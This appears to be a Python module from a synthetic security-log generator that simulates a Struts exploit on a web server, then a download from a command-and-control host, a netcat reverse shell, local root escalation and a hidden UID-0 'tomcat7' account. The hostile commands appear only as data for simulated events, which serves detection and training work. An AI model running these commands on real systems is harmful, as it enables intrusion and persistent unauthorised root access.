"""hoth: from a form field of a web application to a second root account."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import quote_plus

from preview.generator import clock, draw, osquery, programs
from preview.generator.attack import foothold, payloads, sessions
from preview.generator.facts import Connection, Request
from preview.generator.internet import C2_ADDRESS, C2_NAME
from preview.generator.organisation import HOSTS

if TYPE_CHECKING:
    from preview.generator.event import Stories
    from preview.generator.facts import Process
    from preview.generator.scene import Scene

PATH = "/frothlyinventory/integration/saveGangster.action"
SHELL = f"nc {C2_ADDRESS} 8088 -e /bin/bash"
ACCOUNT = "useradd -ou 0 -g 0 -M -d /root -s /bin/bash tomcat7 -p Gw6dW4Qa1"

_TOMCAT = 112
_COMMANDS = (
    ("11:05:40.310", "id"),
    ("11:06:22.904", "uname -a"),
    ("11:07:51.118", "cat /etc/passwd"),
    ("11:09:34.660", "ls -la /tmp"),
    ("11:11:02.035", "wget -q -O /tmp/colonel.c http://" + C2_ADDRESS + ":3333/images/colonel.c"),
    ("11:12:33.470", SHELL),
)


def tell(scene: Scene) -> None:
    """Exploit the application, connect a shell, become root, stay."""
    host = HOSTS["hoth"]
    java = scene.linux.pid(host)
    elevated = foothold.session(scene, sessions.ELEVATED)
    shell = 0
    for time, command in _COMMANDS:
        shell = _exploit(scene, elevated, clock.at(time), command, java)
    _connect_shell(scene)
    _become_root(scene, shell)
    _add_account(scene, shell)


def _exploit(scene: Scene, parent: Process, time: float, command: str, java: int) -> int:
    rng = draw.stream(f"exploit {command}")
    host = HOSTS["hoth"]
    tool = scene.windows.start(
        parent,
        time - 0.6,
        programs.IEXEPLORER,
        f'"{programs.IEXEPLORER}" -u http://{host.address}:8080{PATH} -c "{command}"',
        lifetime=2.5,
        stories=("look_alike_name", "new_hash", "struts_exploit"),
    )
    body = "name=" + quote_plus(payloads.ognl(command)) + "&age=42&description=gangster"
    scene.network.connect(
        Connection(
            time=time,
            source=tool.host.inner,
            source_port=rng.randrange(49152, 65536),
            destination=host.address,
            destination_port=8080,
            sent=900 + len(body),
            received=rng.randrange(2100, 5200),
            duration=0.8,
            name=host.fqdn,
            process=tool,
            request=Request(
                "POST", PATH, f"{host.address}:8080", "python-requests/2.18.4", body=body
            ),
        ),
        ("struts_exploit",),
    )
    stories: Stories = ("server_command",)
    if command == SHELL:
        stories = ("server_command", "reverse_shell")
    shell = scene.linux.execute(
        host, time + 0.2, f"/bin/bash -c {command}", parent=java, user=_TOMCAT, stories=stories
    )
    return scene.linux.execute(
        host, time + 0.3, command, parent=shell, user=_TOMCAT, stories=stories
    )


def _connect_shell(scene: Scene) -> None:
    host = HOSTS["hoth"]
    time = clock.at("11:12:33.910")
    scene.network.connect(
        Connection(
            time=time,
            source=host.address,
            source_port=41822,
            destination=C2_ADDRESS,
            destination_port=8088,
            sent=18_310,
            received=6_204,
            duration=2711.0,
            name=C2_NAME,
        ),
        ("reverse_shell",),
    )
    columns = {
        "action": "connect",
        "auid": "4294967295",
        "family": "2",
        "local_address": host.address,
        "local_port": "41822",
        "path": "/usr/bin/nc",
        "protocol": "6",
        "remote_address": C2_ADDRESS,
        "remote_port": "8088",
        "success": "1",
        "time": str(int(time)),
    }
    scene.linux.row(host, time + 0.1, osquery.SOCKETS, columns, ("reverse_shell",))
    scene.network.connect(
        Connection(
            time=clock.at("11:11:02.400"),
            source=host.address,
            source_port=41790,
            destination=C2_ADDRESS,
            destination_port=3333,
            sent=150,
            received=6_880,
            duration=0.6,
            name=C2_NAME,
            request=Request(
                "GET",
                "/images/colonel.c",
                f"{C2_ADDRESS}:3333",
                "Wget/1.17.1 (linux-gnu)",
                content_type="text/plain",
            ),
        ),
        ("tool_download",),
    )


def _become_root(scene: Scene, shell: int) -> None:
    host = HOSTS["hoth"]
    stories = ("local_exploit",)
    for time, path in (("11:11:03.020", "/tmp/colonel.c"), ("11:15:02.280", "/tmp/colonelnew")):  # noqa: S108 (of the log)
        columns = {"action": "CREATED", "category": "tmp", "target_path": path, "uid": str(_TOMCAT)}
        scene.linux.row(host, clock.at(time), osquery.FILES, columns, stories)
    for time, command in (
        ("11:15:01.140", "gcc colonel.c -o colonelnew"),
        ("11:15:40.512", "chmod +x colonelnew"),
    ):
        scene.linux.execute(
            host, clock.at(time), command, parent=shell, user=_TOMCAT, stories=stories
        )
    root = scene.linux.execute(
        host,
        clock.at("11:16:07.300"),
        "./colonelnew",
        parent=shell,
        user=_TOMCAT,
        effective=0,
        stories=stories,
    )
    scene.linux.execute(host, clock.at("11:16:09.044"), "/bin/sh", parent=root, stories=stories)


def _add_account(scene: Scene, shell: int) -> None:
    host = HOSTS["hoth"]
    stories = ("root_account",)
    scene.linux.execute(host, clock.at("11:24:44.207"), ACCOUNT, parent=shell, stories=stories)
    columns = osquery.account("tomcat7", 0, "/root", "/bin/bash")
    scene.linux.row(host, clock.at("11:25:01.000"), osquery.USERS, columns, stories)
